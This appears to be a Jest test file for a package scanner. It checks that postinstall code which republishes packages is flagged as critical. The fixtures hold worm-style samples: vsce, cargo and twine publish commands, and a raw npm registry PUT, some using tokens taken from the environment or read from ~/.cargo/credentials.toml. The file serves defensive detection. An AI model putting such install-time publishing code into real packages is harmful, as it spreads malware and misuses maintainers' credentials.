/**
 * Self-propagation through other registries and through npm's publish protocol spoken directly:
 * publish commands of extension, crate, Python, gem and NuGet registries run while the package
 * installs, and a PUT whose document carries a tarball attachment. Release scripts that a
 * maintainer runs, and ordinary PUT requests, stay quiet.
 */
import { analyzeSource, threatsOf } from './helpers';

const pkg = (scripts: Record<string, string> = {}) =>
  JSON.stringify({ name: 'str-pad-utils', version: '1.0.0', scripts });

describe('publishing from install-time code', () => {
  it.each([
    [
      'an editor extension, with a token from the environment',
      'execSync(`npx @vscode/vsce publish -p ${process.env.VSCE_PAT} --no-dependencies`, { cwd: process.env.INIT_CWD });',
    ],
    [
      'a crate, with the token read from the cargo credentials',
      'execSync(`cargo publish --allow-dirty --token "$(grep token ~/.cargo/credentials.toml | cut -d\'"\' -f2)"`);',
    ],
    [
      'a Python package, with twine',
      "execSync('twine upload --non-interactive dist/*', { cwd: process.env.INIT_CWD });",
    ],
  ])('%s', (_name, line) => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'node i.js' }),
      'i.js': `const { execSync } = require('child_process');\n${line}`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.exec-npm-publish');
    expect(r.risk_level).toBe('critical');
  });
  it("npm's publish document PUT straight to the registry with a token", () => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'node i.js' }),
      'i.js': `const { execSync } = require('child_process'); const fs = require('fs');
const reg = execSync('npm config get registry').toString().trim();
const me = require('./package.json');
const body = { name: me.name, versions: { '9.9.9': { ...me, version: '9.9.9' } },
  _attachments: { [me.name + '-9.9.9.tgz']: { data: fs.readFileSync(__dirname + '/b.tgz').toString('base64') } } };
fetch(reg + '/' + me.name, { method: 'PUT', headers: { authorization: 'Bearer ' + process.env.NPM_TOKEN }, body: JSON.stringify(body) });`,
    });
    expect(r.evidence.map((e) => e.message)).toContainEqual(
      expect.stringMatching(/publishes a package through a registry request/),
    );
    expect(threatsOf(r)).toContain('install_script_injection');
  });
  it('quiet: a release script the maintainer runs, and a PUT of an ordinary document', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'str-pad-utils', version: '1.0.0', main: 'index.js' }),
      'scripts/release.sh': '#!/bin/sh\nset -e\ncargo publish\ntwine upload dist/*\n',
      'index.js': `module.exports = (url, doc) => fetch(url, { method: 'PUT', body: JSON.stringify({ name: doc.name, rev: doc.rev }) });`,
    });
    expect(threatsOf(r)).toEqual([]);
  });
});
